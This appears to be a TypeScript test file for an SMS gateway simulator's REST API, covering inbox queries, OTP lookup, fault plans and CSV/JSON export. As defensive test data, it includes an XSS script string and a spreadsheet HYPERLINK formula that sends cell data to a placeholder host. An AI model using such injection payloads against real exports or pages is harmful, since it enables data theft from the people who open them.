import type { GatewaySimulator, InboxMessage } from '../../simulator/index.js';
import { NUMBER, send, start } from './client.js';

interface Answer {
  status: number;
  json: Record<string, unknown>;
}

async function api(
  gateway: GatewaySimulator,
  path: string,
  init: RequestInit = {},
): Promise<Answer> {
  const answer = await fetch(gateway.origin + path, init);
  return { status: answer.status, json: (await answer.json()) as Record<string, unknown> };
}

/** What a 400 says. */
const refusalOf = ({ status, json }: Answer) =>
  status === 400 ? JSON.stringify(json['error']) : '';

const texts = ({ json }: Answer) => (json['messages'] as InboxMessage[]).map(({ text }) => text);

describe('GET /api/messages', () => {
  it('lists accepted and refused sends, newest first, with counts', async () => {
    const gateway = await start();
    await send(gateway, { msg: 'one' });
    await send(gateway, { msg: 'two' }, {});
    const answer = await api(gateway, '/api/messages');
    expect(texts(answer)).toEqual(['two', 'one']);
    expect(answer.json).toMatchObject({ total: 2, unread: 2, next: null });
  });

  it('returns pages without gaps or repeats', async () => {
    const gateway = await start();
    for (const msg of ['1', '2', '3', '4', '5']) await send(gateway, { msg });
    const seen: string[] = [];
    let before = '';
    do {
      const answer = await api(gateway, `/api/messages?limit=2&before=${before}`);
      seen.push(...texts(answer));
      before = (answer.json['next'] as string | null) ?? '';
    } while (before !== '');
    expect(seen).toEqual(['5', '4', '3', '2', '1']);
    expect((await api(gateway, '/api/messages?limit=5')).json).toMatchObject({ next: null });
  });

  it.each([
    ['limit=0', 'limit'],
    ['limit=x', 'limit'],
    ['limit=1001', 'limit'],
    ['before=12', 'before'],
    ['search=a&search=b', 'search'],
    ['serch=apple', 'serch is not a known query parameter. Known: '],
  ])('rejects %s and says why', async (query, why) => {
    expect(refusalOf(await api(await start(), `/api/messages?${query}`))).toContain(why);
  });
});

describe('one message of the API', () => {
  it('can be read, marked and deleted', async () => {
    const gateway = await start();
    await send(gateway);
    const path = `/api/messages/${gateway.messages[0]?.id}`;
    expect((await api(gateway, path)).json).toMatchObject({ read: false, to: [NUMBER] });
    expect((await api(gateway, `${path}/read`, { method: 'POST' })).json).toMatchObject({
      read: true,
    });
    const unread = { method: 'POST', body: '{"read":false}' };
    expect((await api(gateway, `${path}/read`, unread)).json).toMatchObject({ read: false });
    expect((await api(gateway, path, { method: 'DELETE' })).json).toEqual({ deleted: 1 });
    expect((await api(gateway, path)).status).toBe(404);
    expect((await api(gateway, path, { method: 'DELETE' })).status).toBe(404);
  });

  it('can be deleted with all others, or with all matches of a search', async () => {
    const gateway = await start();
    for (const msg of ['apple', 'pear', 'plum']) await send(gateway, { msg });
    const one = await api(gateway, '/api/messages?search=pear', { method: 'DELETE' });
    expect(one.json).toEqual({ deleted: 1 });
    expect(gateway.messages).toHaveLength(2);
    const rest = await api(gateway, '/api/messages', { method: 'DELETE' });
    expect([rest.json, gateway.messages]).toEqual([{ deleted: 2 }, []]);
    await send(gateway);
    const empty = await api(gateway, '/api/messages?search=', { method: 'DELETE' });
    expect(empty.json).toEqual({ deleted: 1 });
  });
});

describe('DELETE /api/messages', () => {
  it.each([
    `to=${NUMBER}`,
    'serach=x',
    'search=&to=1',
    'search=&search=apple',
    `search=${encodeURIComponent('""')}`,
    'search=%20',
  ])('deletes nothing with %s and says what is allowed', async (query) => {
    const gateway = await start();
    await send(gateway);
    const answer = await api(gateway, `/api/messages?${query}`, { method: 'DELETE' });
    expect(refusalOf(answer)).toContain('search');
    expect(gateway.messages).toHaveLength(1);
  });
});

describe('GET /api/messages/latest, wait and otp', () => {
  it('latest returns the newest accepted message to a number, otherwise 404', async () => {
    const gateway = await start();
    expect((await api(gateway, '/api/messages/latest')).status).toBe(404);
    await send(gateway, { msg: 'one' });
    await send(gateway, { msg: 'two' });
    await send(gateway, { msg: 'refused' }, {});
    await send(gateway, { msg: 'other', mobile: '4915112345678' });
    const { json } = await api(gateway, `/api/messages/latest?to=%2B${NUMBER}`);
    expect(json).toMatchObject({ text: 'two' });
    expect((await api(gateway, '/api/messages/latest')).json).toMatchObject({ text: 'other' });
  });

  it('treat an empty parameter as missing', async () => {
    const gateway = await start();
    await send(gateway);
    for (const path of ['latest?to=', 'wait?to=&after=&timeout=', 'otp?to=&after=&timeout=']) {
      expect([path, (await api(gateway, `/api/messages/${path}`)).status]).toEqual([path, 200]);
    }
  });

  it('wait answers when the message comes, not with one that `after` excludes', async () => {
    const gateway = await start();
    await send(gateway, { msg: 'one' });
    const { id } = (await api(gateway, `/api/messages/wait?to=${NUMBER}`)).json;
    const waiting = api(gateway, `/api/messages/wait?to=${NUMBER}&after=${String(id)}`);
    await send(gateway, { msg: 'two' });
    expect((await waiting).json).toMatchObject({ text: 'two' });
  });

  it('wait answers 404 with a reason on timeout', async () => {
    const gateway = await start();
    const { status, json } = await api(gateway, `/api/messages/wait?to=${NUMBER}&timeout=1`);
    expect(status).toBe(404);
    expect(json).toMatchObject({
      error: { code: 'timeout', message: expect.stringContaining('1 ms') },
    });
    expect(JSON.stringify(json)).not.toContain(NUMBER);
  });

  it.each(['after=x', 'timeout=-1', 'timeout=x', 'timeout=300001'])(
    'wait rejects %s',
    async (query) => {
      const gateway = await start();
      expect(refusalOf(await api(gateway, `/api/messages/wait?${query}`))).toContain(
        query.split('=')[0] ?? '',
      );
    },
  );
});

const put = (gateway: GatewaySimulator, body: unknown) =>
  api(gateway, '/api/faults', { method: 'PUT', body: JSON.stringify(body) });

describe('/api/faults', () => {
  it('replaces the plan with the body, and an empty object turns all faults off', async () => {
    const gateway = await start();
    const plan = {
      next: [{ fault: '429', count: 2, retryAfter: 5 }],
      chance: [{ fault: 'slow', probability: 0.1 }],
    };
    expect((await put(gateway, plan)).json).toMatchObject(plan);
    expect((await send(gateway)).status).toBe(429);
    expect((await api(gateway, '/api/faults')).json).toMatchObject({
      next: [{ fault: '429', count: 1 }],
      struck: { '429': 1 },
      known: expect.arrayContaining(['accept-then-drop']),
      magic: expect.objectContaining({ '99900000500': '500' }),
    });
    expect((await put(gateway, {})).json).toMatchObject({ next: [], chance: [] });
    expect((await send(gateway)).status).toBe(200);
  });

  it.each([
    [{ next: [{ fault: 'explode' }] }],
    [{ next: { fault: '429' } }],
    [{ next: [{ fault: '429' }, { fault: '429', count: -1 }] }],
    [{ chance: [{ fault: '429', probability: 2 }] }],
    [{ later: [] }],
    [{ seed: -1 }],
    [[]],
  ])('rejects %j with a reason and does not change the plan', async (plan) => {
    const gateway = await start();
    gateway.faults.next('500');
    expect(refusalOf(await put(gateway, plan))).toContain('message');
    expect(gateway.faults.state).toMatchObject({ next: [{ fault: '500', count: 1 }], chance: [] });
  });
});

describe('/health', () => {
  it('answers 200', async () => {
    const gateway = await start();
    expect(await api(gateway, '/health')).toEqual({ status: 200, json: { status: 'ok' } });
  });
});

describe('the page', () => {
  it('contains no message and has a strict policy', async () => {
    const gateway = await start();
    await send(gateway, { msg: '<script>alert("1")</script>', senderid: "<b>'x'" });
    const answer = await fetch(`${gateway.origin}/`);
    expect(await answer.text()).not.toMatch(/alert|<b>/);
    expect(answer.headers.get('content-security-policy')).toContain("default-src 'none'");
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(answer.headers.get('cache-control')).toBe('no-store');
  });

  it.each(['/api/nothing', '/nothing', '/api/messages/1/2/3', '//x', '/SMSApi'])(
    'is not at %s, and the answer says what is where',
    async (path) => {
      const gateway = await start();
      const { status, json } = await api(gateway, path);
      expect(status).toBe(404);
      expect(json).toMatchObject({ error: { message: expect.stringContaining('/api/messages') } });
    },
  );

  it.each([
    ['GET', '/me/', 'POST', 'POST'],
    ['PUT', '/SMSApi/send', 'POST, GET', 'POST or GET'],
    ['PUT', '/SMSApi/group/read', 'POST, GET', 'POST or GET'],
    ['POST', '/api/messages', 'GET, DELETE', 'GET or DELETE'],
    ['POST', '/', 'GET, HEAD', 'GET or HEAD'],
    ['DELETE', '/health', 'GET, HEAD', 'GET or HEAD'],
    ['DELETE', '/api/faults', 'GET, POST, PUT', 'GET, POST, or PUT'],
  ])(
    'answers 405 to %s %s and names the methods of the path',
    async (method, path, allowed, use) => {
      const gateway = await start();
      const answer = await fetch(gateway.origin + path, { method });
      expect([answer.status, answer.headers.get('allow')]).toEqual([405, allowed]);
      const message = `This path does not support ${method}. Use ${use}.`;
      const body = path.startsWith('/SMSApi/')
        ? { response: { status: 'error', code: '405', msg: message } }
        : { error: { code: 'method', message } };
      expect(await answer.json()).toEqual(body);
    },
  );
});

describe('since', () => {
  const WAIT = '/api/messages/wait?timeout=0&since=';

  it('leaves out what came before, as a time with a zone or as milliseconds', async () => {
    const gateway = await start();
    await send(gateway);
    const at = gateway.messages[0]?.at ?? '';
    const time = Date.parse(at);
    const kolkata = new Date(time + 19_800_000).toISOString().replace('Z', '%2B05:30');
    for (const since of [at, String(time), kolkata, at.replace('Z', '%2B00:00')]) {
      expect((await api(gateway, WAIT + since)).status).toBe(200);
    }
    for (const since of [new Date(time + 1).toISOString(), String(time + 1)]) {
      expect((await api(gateway, WAIT + since)).status).toBe(404);
      const otp = await api(gateway, `/api/messages/otp?timeout=0&since=${since}`);
      expect(otp.status).toBe(404);
    }
  });

  it.each(['1773757867', '2026-03-17', '2026-03-17T14:30:00', '2026-03-17T14:30:00+00:00', 'now'])(
    '%s is a 400 that says what to write: it would be another time than meant',
    async (since) => {
      const answer = await api(await start(), WAIT + since);
      expect(refusalOf(answer)).toContain('since is not valid. Provide a time in ISO 8601');
    },
  );
});

describe('a search in a request', () => {
  it.each([
    'messages?search=is:blue',
    'messages/latest?search=is:blue',
    'messages/wait?timeout=0&search=is:blue',
    'messages/otp?timeout=0&search=is:blue',
    'messages/export?search=is:blue',
  ])('%s is a 400 that lists what is known', async (path) => {
    expect(refusalOf(await api(await start(), `/api/${path}`))).toContain(
      'search has an invalid term: is:blue is',
    );
  });

  it('finds, waits for and reads a code in a message with a text', async () => {
    const gateway = await start();
    await send(gateway, { msg: 'Login code 111111' });
    await send(gateway, { msg: 'Payment code 222222' });
    const search = encodeURIComponent('text:login');
    const otp = await api(gateway, `/api/messages/otp?search=${search}`);
    expect(otp.json).toEqual({ otp: '111111' });
    const latest = await api(gateway, `/api/messages/latest?search=${search}`);
    expect(latest.json).toMatchObject({ otp: '111111' });
    const waiting = api(gateway, `/api/messages/wait?search=${encodeURIComponent('"see you"')}`);
    await send(gateway, { msg: 'See you, at 10:30' });
    expect((await waiting).json).toMatchObject({ text: 'See you, at 10:30' });
    expect(await gateway.otp({ search: 'payment' })).toBe('222222');
    await expect(gateway.waitFor({ search: 'is:blue' })).rejects.toThrow(
      'waitFor: search has an invalid term: is:blue is not',
    );
    await expect(gateway.waitFor({ search: 'never', timeout: 0 })).rejects.toThrow(
      'No message that matches the search came within 0 ms.',
    );
  });
});

describe('POST /api/messages/read', () => {
  it('marks everything read, or what a search finds, or unread', async () => {
    const gateway = await start();
    for (const msg of ['apple', 'pear', 'plum']) await send(gateway, { msg });
    const read = (body: object) =>
      api(gateway, '/api/messages/read', { method: 'POST', body: JSON.stringify(body) });
    expect((await read({ search: 'apple' })).json).toEqual({ updated: 1 });
    expect(gateway.messages.map((message) => message.read)).toEqual([true, false, false]);
    expect((await read({})).json).toEqual({ updated: 2 });
    expect((await read({ search: 'p -plum', read: false })).json).toEqual({ updated: 2 });
    expect(gateway.messages.map((message) => message.read)).toEqual([false, false, true]);
    expect((await read({ seach: 'apple' })).status).toBe(400);
  });
});

describe('GET /api/messages/export', () => {
  it('downloads what the search finds, as JSON', async () => {
    const gateway = await start();
    await send(gateway, { msg: 'apple' });
    await send(gateway, { msg: 'pear' });
    const answer = await fetch(`${gateway.origin}/api/messages/export?format=json&search=apple`);
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="sms-inbox.json"');
    expect(await answer.json()).toEqual([gateway.messages[0]]);
    const none = await fetch(`${gateway.origin}/api/messages/export?search=plum`);
    expect(await none.json()).toEqual([]);
  });

  it('downloads CSV in which no cell is a formula', async () => {
    const gateway = await start();
    const formula = '=HYPERLINK("http://evil.test?"&A1,"code")';
    for (const msg of [formula, '+1', '-1', '@x', '\t=1', 'one\nमस्ते "two", three']) {
      await send(gateway, { msg, senderid: '=S' });
    }
    const answer = await fetch(`${gateway.origin}/api/messages/export?format=csv`);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const bytes = Buffer.from(await answer.arrayBuffer());
    const csv = bytes.toString('utf8');
    expect(csv).toMatch(/^\uFEFFat,id,status,account,sender,to,/);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.test?""&A1,""code"")"`);
    expect(csv).toContain('मस्ते ""two"", three"');
    const cells = [...csv.matchAll(/(?:^|,)"((?:[^"]|"")*)"/gm)].map(([, cell = '']) => cell);
    expect(cells.length).toBeGreaterThan(6 * 15);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});

describe('the faults of parallel tests', () => {
  it('are added and removed alone', async () => {
    const gateway = await start();
    const change = (method: string, path: string, body?: object) =>
      api(gateway, `/api/faults${path}`, { method, ...(body && { body: JSON.stringify(body) }) });
    const first = await change('POST', '', { fault: 'slow', probability: 0.1 });
    const second = await change('POST', '', { fault: '429', count: 2 });
    expect([first.status, second.status]).toEqual([201, 201]);
    expect(second.json).toMatchObject({ id: expect.stringMatching(/^\w{12}$/), count: 2 });
    const plan = await change('GET', '');
    expect(plan.json).toMatchObject({ next: [second.json], chance: [first.json] });
    expect((await change('DELETE', `/${String(first.json['id'])}`)).json).toEqual({ deleted: 1 });
    expect((await change('DELETE', `/${String(first.json['id'])}`)).status).toBe(404);
    expect(gateway.faults.state).toMatchObject({ next: [second.json], chance: [] });
    const { next, chance } = gateway.faults.state;
    expect((await change('PUT', '', { next, chance })).json).toMatchObject({ next: [second.json] });
    await send(gateway);
    await send(gateway);
    expect((await change('DELETE', `/${String(second.json['id'])}`)).status).toBe(404);
  });
});
